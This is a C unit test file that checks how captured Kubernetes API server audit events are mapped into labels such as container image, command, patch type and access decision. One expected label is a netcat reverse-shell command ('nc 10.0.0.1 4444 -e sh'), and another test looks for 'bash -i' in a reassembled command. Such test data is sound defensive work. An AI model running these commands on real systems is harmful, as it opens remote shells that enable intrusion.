/* SPDX-License-Identifier: Apache-2.0 */
/* Events as a kube-apiserver wrote them. */
#include "tests/unit/udm/mapped.h"

static struct mapped map_capture(const char *name)
{
    char path[128];
    snprintf(path, sizeof path, "tests/data/udm/%s.json", name);
    struct buffer text = file_text(path);
    struct mapped mapped = map_text(slice_trim(buffer_slice(&text)), (struct udm_cut){0}, 0);
    buffer_free(&text);
    return mapped;
}

static void test_captured_events_give_their_labels(void **state)
{
    (void)state;
    static const struct { const char *capture, *label, *expected; } rows[] = {
        {"patch-json", "image", "alpine:latest"},
        {"patch-json", "command", "/bin/sh -c nc 10.0.0.1 4444 -e sh"},
        {"patch-json", "patch_type", "json"},
        {"patch-json", "response.image", "alpine:latest"},
        {"patch-json", "field_manager", "kubectl-patch"},
        {"patch-json-copy", "image", "alpine:latest"},
        {"patch-json-copy", "object_state", "present"},
        {"patch-copy-accept-partial", "image", ""},
        {"patch-copy-accept-partial", "object_state", "unresolved"},
        {"patch-copy-accept-partial", "response_kind", "PartialObjectMetadata"},
        {"dupkey-patch", "image", "company/ok:1 | alpine:3"},
        {"lone-surrogate-patch", "image", "alpine:3"},
        {"lone-surrogate-patch", "annotation.a", "\xed\xa0\x80"},
        {"invalid-utf8-patch", "object_state", "present"},
        {"denied-403", "object_state", "rejected"},
        {"denied-403", "decision", "forbid"},
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct mapped mapped = map_capture(rows[i].capture);
        assert_label(&mapped, rows[i].label, rows[i].expected);
        unmap(&mapped);
    }
}

static void test_a_command_in_pieces_is_whole_at_the_end(void **state)
{
    (void)state;
    struct mapped mapped = map_capture("patch-json-args-split");
    assert_non_null(strstr(label_text(&mapped, "command"), "bash -i"));
    unmap(&mapped);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_captured_events_give_their_labels),
        cmocka_unit_test(test_a_command_in_pieces_is_whole_at_the_end),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
